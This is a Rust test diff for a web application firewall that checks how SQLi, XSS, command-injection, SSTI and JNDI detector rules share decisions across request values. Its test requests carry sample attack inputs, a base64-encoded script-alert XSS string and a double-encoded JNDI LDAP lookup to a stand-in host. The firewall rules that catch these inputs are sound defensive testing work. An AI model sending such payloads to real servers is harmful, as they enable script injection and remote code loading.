@@ -144,3 +144,47 @@ fn a_detector_rule_is_skipped_whole_only_when_no_value_may_fire() {
     assert_eq!(iv.map(|i| i.status), Some(403));
     assert_eq!(tx.stats().detector_list_skips, 0);
 }
+
+/// Detector families (`transaction/detectors.rs`): rules reading the same target list under the same chain
+/// share one class decision per value. The rules after the first are skipped whole when no value may fire
+/// (without collecting the list again); a value that may fire brings back the per-value loop for its class
+/// only, with the capture and `MATCHED_VAR_NAME` of the value that matched, also when the attack is only in a
+/// `multiMatch` form (base64, double-encoded) of one value among plain ones; a rule with a `ctl` target
+/// removal is decided on its own list.
+#[test]
+fn detector_families_decide_each_class_once_per_list() {
+    let list = "ARGS|REQUEST_HEADERS:User-Agent";
+    let mm = "t:none,t:deepDecode,t:base64IfEncoded,multiMatch";
+    let rules = format!(
+        "SecRule {list} \"@detectSQLi\" \"id:1,phase:2,pass,log,capture,{mm},logdata:'%{{MATCHED_VAR_NAME}}'\"\n\
+         SecRule {list} \"@detectXSS\" \"id:2,phase:2,pass,log,capture,{mm},logdata:'%{{MATCHED_VAR_NAME}}'\"\n\
+         SecRule {list} \"@detectCmdi\" \"id:3,phase:2,pass,log,capture,{mm},logdata:'%{{MATCHED_VAR_NAME}}'\"\n\
+         SecRule {list} \"@detectSSTI\" \"id:4,phase:2,pass,log,capture,{mm},logdata:'%{{MATCHED_VAR_NAME}}'\"\n\
+         SecRule {list} \"@detectJndi\" \"id:5,phase:2,pass,log,capture,{mm},logdata:'%{{MATCHED_VAR_NAME}}'\""
+    );
+    let e = engine(&rules);
+    let ua = [("User-Agent", "anchor-bench/1.0")];
+    let fired = |tx: &portcullis_waf::Transaction| {
+        tx.matches().iter().map(|m| format!("{} {}", m.id, m.data)).collect::<Vec<_>>().join(", ")
+    };
+    // plain values: SQLi, XSS and command injection may fire on a User-Agent (spaces, `/`, `(`), SSTI and
+    // JNDI on no value: two rules skipped whole
+    let (_, tx) = get(&e, "/?a=hello&b=42&c=plain", &ua);
+    assert_eq!(fired(&tx), "");
+    assert_eq!(tx.stats().detector_list_skips, 2, "{:?}", tx.stats());
+    // the attack only in a form: base64 of `<script>alert(1)</script>`, double URL encoding of a JNDI lookup
+    let (_, tx) = get(
+        &e,
+        "/?a=hello&x=PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg%3D%3D&b=42&j=%2524%257Bjndi%253Aldap%253A%252F%252Fe.example%252Fa%257D",
+        &ua,
+    );
+    assert_eq!(fired(&tx), "2 ARGS:x, 5 ARGS:j");
+    // a rule with a ctl target removal reads its own list, and still finds what is left in it
+    let e = engine(&format!(
+        "{rules}\nSecRule REQUEST_FILENAME \"@streq /t\" \"id:10,phase:1,pass,nolog,ctl:ruleRemoveTargetById=2;ARGS:x\""
+    ));
+    let (_, tx) = get(&e, "/t?x=%3Cscript%3Ealert(1)%3C%2Fscript%3E&y=%3Cscript%3Ealert(1)%3C%2Fscript%3E", &ua);
+    assert_eq!(fired(&tx), "2 ARGS:y");
+    let (_, tx) = get(&e, "/u?x=%3Cscript%3Ealert(1)%3C%2Fscript%3E", &ua);
+    assert_eq!(fired(&tx), "2 ARGS:x");
+}
